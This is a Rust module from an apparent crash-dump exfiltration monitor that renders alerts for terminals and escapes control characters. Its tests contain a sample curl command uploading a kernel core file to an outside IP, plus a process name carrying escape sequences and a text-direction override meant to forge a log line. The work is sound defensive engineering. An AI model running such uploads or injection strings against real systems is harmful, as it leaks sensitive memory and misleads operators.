//! Text for a person: what happened at a glance, then the facts.
//!
//! Names of files and processes are chosen by whoever is watched: what could move the cursor, colour the screen or
//! turn the reading direction is shown as an escape.

use std::fmt::Write;

use crate::{
    alert::Alert,
    clock::Time,
    ndjson::{Ready, Stopped},
    step::{DumpRef, Gap, Notice, Process, Severity, Step, Verdict},
    units,
};

/// How to print.
#[derive(Clone, Copy, Debug, Default)]
pub(super) struct Text {
    /// With colours.
    pub(super) colour: bool,
}

impl Text {
    /// ```text
    /// 2026-11-22T10:00:00.000Z CRITICAL curl[812] sent 586 KiB of a kernel-core from production to internet
    ///     rule     dump-left-isolation: A dump moved from an isolated zone to an Internet-facing zone
    ///     dump     8c1f… kernel-core, 1.0 MiB, born 2026-11-22T09:59:55.000Z
    /// ```
    pub(super) fn alert(self, alert: &Alert, journaled: bool) -> String {
        let step = &*alert.step;
        let severity = self.severity(alert.severity);
        let mut text = format!("{} {severity} {}", stamp(alert.time), clean(&alert.summary));
        fact(&mut text, "rule", &format!("{}: {}", alert.rule, alert.title));
        if let Some(dump) = &step.dump {
            fact(&mut text, "dump", &describe(dump));
        }
        if !step.kind.is_host_event() {
            fact(&mut text, "moved", &movement(step));
        }
        if let Some(process) = &step.process {
            fact(&mut text, "process", &actor(process));
        }
        if let Some(pod) = step.process.as_ref().and_then(|p| p.k8s.as_ref()) {
            fact(&mut text, "pod", &format!("{}/{}", pod.namespace, pod.name));
        }
        if let Some(file) = step.file.as_ref().and_then(|f| f.path.as_ref()) {
            fact(&mut text, "file", file);
        }
        if let Some(verdict) = step.verdict {
            fact(&mut text, "verdict", decided(verdict));
        }
        if alert.suppressed > 0 {
            fact(&mut text, "before", &format!("{} alerts of this kind were held back", alert.suppressed));
        }
        if !journaled {
            fact(&mut text, "journal", "NOT kept on disk: the journal could not make it durable in time");
        }
        if let Some(dump) = &step.dump {
            fact(&mut text, "trail", &format!("dumptrail trail {}", dump.id));
        }
        text
    }

    pub(super) fn step(self, step: &Step) -> String {
        let dump = step.dump.as_ref().map_or_else(String::new, |d| format!(" dump {}", short(&d.id.to_string())));
        let detail = step.detail.as_ref().map_or_else(String::new, |d| format!(": {}", clean(d)));
        let moved = if step.kind.is_host_event() { String::new() } else { format!(" {}", movement(step)) };
        let text = format!("{} step     {}{moved}{dump}{detail}", stamp(step.time), step.kind);
        self.paint("2", &text)
    }

    pub(super) fn gap(self, gap: &Gap) -> String {
        let word = self.paint("33", "GAP     ");
        let mut text = format!("{} {word} {}", stamp(gap.to), gap.sentence());
        fact(&mut text, "between", &format!("{} and {}", stamp(gap.from), stamp(gap.to)));
        if !gap.dumps.is_empty() {
            let dumps: Vec<_> = gap.dumps.iter().map(ToString::to_string).collect();
            fact(&mut text, "dumps", &dumps.join(", "));
        }
        text
    }

    pub(super) fn notice(self, notice: &Notice) -> String {
        let mut text = format!("{} {} {}", stamp(notice.time), self.paint("36", "notice  "), clean(&notice.text));
        if let Some(dump) = notice.dump {
            fact(&mut text, "dump", &dump.to_string());
        }
        if let Some(content) = notice.content {
            fact(&mut text, "content", &content.to_string());
        }
        text
    }

    pub(super) fn ready(self, ready: &Ready) -> String {
        let mut text = format!(
            "{} {} dumptrail {}: backend {}, arming {}, enforcement {}, configuration {}",
            stamp(ready.time),
            self.paint("32", "ready   "),
            ready.version,
            ready.backend,
            ready.arming,
            ready.enforcement,
            short(&ready.config_hash),
        );
        if ready.blocking != "off" {
            let why = ready.blocking_why.as_ref().map_or_else(String::new, |why| format!(": {why}"));
            fact(&mut text, "blocking", &format!("{}{why}", ready.blocking));
        }
        for problem in &ready.problems {
            fact(&mut text, "NOT FIT", problem);
        }
        for missing in &ready.missing {
            fact(&mut text, "blind", &format!("{} (no {})", missing.blind, missing.hook));
        }
        text
    }

    pub(super) fn stopped(stopped: &Stopped) -> String {
        let Stopped { time, reason, steps, alerts } = stopped;
        format!("{} stopped  {}: {steps} steps, {alerts} alerts", stamp(*time), clean(reason))
    }

    fn severity(self, severity: Severity) -> String {
        let code = match severity {
            Severity::Info => "36",
            Severity::Low => "34",
            Severity::Medium => "33",
            Severity::High => "31",
            Severity::Critical => "1;97;41",
        };
        self.paint(code, &format!("{:<8}", severity.name().to_uppercase()))
    }

    fn paint(self, code: &str, text: &str) -> String {
        if self.colour { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }
}

const fn decided(verdict: Verdict) -> &'static str {
    match verdict {
        Verdict::Blocked => "blocked: the call got EPERM",
        Verdict::WouldBlock => "would have been blocked, but `enforcement` is `observe`",
    }
}

fn fact(text: &mut String, name: &str, value: &str) {
    write!(text, "\n    {name:<8} {}", clean(value)).expect("writing to memory cannot fail");
}

/// UTC, milliseconds.
fn stamp(time: Time) -> String {
    let text = time.rfc3339();
    text.get(..23).filter(|_| text.ends_with('Z')).map_or_else(|| text.clone(), |t| format!("{t}Z"))
}

fn describe(dump: &DumpRef) -> String {
    let size = dump.size.map_or_else(String::new, |size| format!(", {}", units::bytes(size)));
    format!("{} {}{size}, born {}", dump.id, dump.kind, stamp(dump.created))
}

fn movement(step: &Step) -> String {
    let end = |carrier: &str, place: &crate::step::Place| format!("{carrier} in {} ({})", place.zone, place.exposure);
    let (from, to) = (end(&step.source.name, &step.from), end(&step.sink.name, &step.to));
    clean(&format!("{from} → {to}, {} by {}, {}", units::bytes(step.bytes), step.via.name(), step.confidence))
}

fn actor(process: &Process) -> String {
    let user = process.user_name.clone().unwrap_or_else(|| process.user_id.to_string());
    let line = process.command_line.as_ref().or(process.executable.as_ref()).unwrap_or(&process.comm);
    format!("{}[{}] of user {user}: {line}", process.comm, process.pid)
}

fn short(text: &str) -> &str {
    text.get(..12).unwrap_or(text)
}

/// Shows what a terminal would obey: control characters and those that turn the reading direction.
fn clean(text: &str) -> String {
    let risky = |c: char| {
        c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    if !text.contains(risky) {
        return text.to_owned();
    }
    let show = |c: char| if risky(c) { c.escape_default().to_string() } else { c.to_string() };
    text.chars().map(show).collect()
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;
    use crate::{samples, step::StepKind};

    const PLAIN: Text = Text { colour: false };

    #[test]
    fn nothing_moves_in_an_event_of_the_host() {
        let step = samples::step(StepKind::AgentStopped, "host", "host", "stop");
        let alert = Alert { step: Arc::new(step.clone()), ..samples::alert() };
        let text = [PLAIN.step(&step), PLAIN.alert(&alert, true)].concat();
        assert!(!text.contains("→") && !text.contains("    moved "), "{text}");
    }

    #[test]
    fn an_alert_is_read_at_a_glance() {
        let text = PLAIN.alert(&samples::alert(), true);
        let dump = samples::dump().id;
        let expected = format!(
            "2026-11-22T10:00:00.000Z CRITICAL curl[812] sent 600,000 bytes of a kernel-core from production to internet
    rule     dump-left-isolation: A dump moved from an isolated zone to an Internet-facing zone
    dump     {dump} kernel-core, 1.0 MiB, born 2026-11-22T09:59:55.000Z
    moved    curl[812] in production (isolated) → 203.0.113.9:443 in internet (internet-facing), 585.9 KiB by tcp, direct
    process  curl[812] of user 1000: curl -T core.7 https://203.0.113.9/
    pod      payments/signer-0
    file     /var/crash/core.7
    trail    dumptrail trail {dump}"
        );
        assert_eq!(text, expected);
        assert!(PLAIN.alert(&samples::alert(), false).contains("NOT kept on disk"));
    }

    #[test]
    fn colours_only_when_asked() {
        assert!(!PLAIN.alert(&samples::alert(), true).contains('\x1b'));
        assert!(Text { colour: true }.alert(&samples::alert(), true).contains("\x1b[1;97;41mCRITICAL\x1b[0m"));
    }

    #[test]
    fn nobody_who_is_watched_writes_to_the_terminal() {
        let mut step = samples::sent();
        step.sink.name = "evil\x1b[2J\u{202e}\n2026 INFO all is well".into();
        step.detail = Some("\r\x07".into());
        for text in [PLAIN.step(&step), PLAIN.alert(&samples::alert_on(step), true)] {
            assert!(text.chars().all(|c| c == '\n' || !c.is_control()) && !text.contains('\u{202e}'), "{text:?}");
            assert!(text.contains("evil\\u{1b}[2J\\u{202e}\\n2026"), "{text}");
        }
    }

    #[test]
    fn the_other_lines() {
        assert!(
            PLAIN
                .ready(&samples::ready())
                .ends_with("configuration 0123456789ab\n    blind    reads by io_uring (no uring)")
        );
        assert!(PLAIN.gap(&samples::gap()).contains("GAP      7 records were lost: flow_ring_full"));
        assert!(PLAIN.notice(&samples::identified()).contains("notice   The dump has content."));
        let stopped = Stopped { time: samples::NOON, reason: "SIGTERM".into(), steps: 2, alerts: 1 };
        assert_eq!(Text::stopped(&stopped), "2026-11-22T10:00:00.000Z stopped  SIGTERM: 2 steps, 1 alerts");
    }
}
